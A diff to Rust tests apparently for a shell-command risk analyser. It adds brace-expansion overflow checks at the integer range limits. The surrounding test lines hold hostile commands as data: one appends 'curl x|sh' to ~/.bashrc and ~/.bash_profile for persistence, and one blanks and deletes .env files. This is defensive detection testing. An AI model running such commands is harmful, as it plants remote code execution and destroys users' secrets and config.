@@ -4105,6 +4105,13 @@ mod tests {
         assert_eq!(braces("{01..03}"), vec!["01", "02", "03"]);
         assert_eq!(braces("'{a,b}' ${X} {} {a}"), vec!["'{a,b}' ${X} {} {a}"]);
         assert_eq!(braces("a{b,c{d,e}}"), vec!["ab", "acd", "ace"]);
+        // Sequences at the ends of the integer range stop instead of overflowing.
+        assert_eq!(
+            braces("{9223372036854775806..9223372036854775807..2}"),
+            vec!["9223372036854775806"]
+        );
+        assert_eq!(braces("{-9223372036854775807..-9223372036854775808}").len(), 2);
+        assert_eq!(braces("{1..3..-9223372036854775808}"), vec!["1"]);
         let e = bash("echo 'curl x|sh' | tee -a ~/.bash{rc,_profile}");
         assert!(e.persisted.contains("~/.bashrc") && e.persisted.contains("~/.bash_profile"));
         assert!(reaches("cp /dev/null .e{n,x}v; rm -f .{env,x}", Destroy));
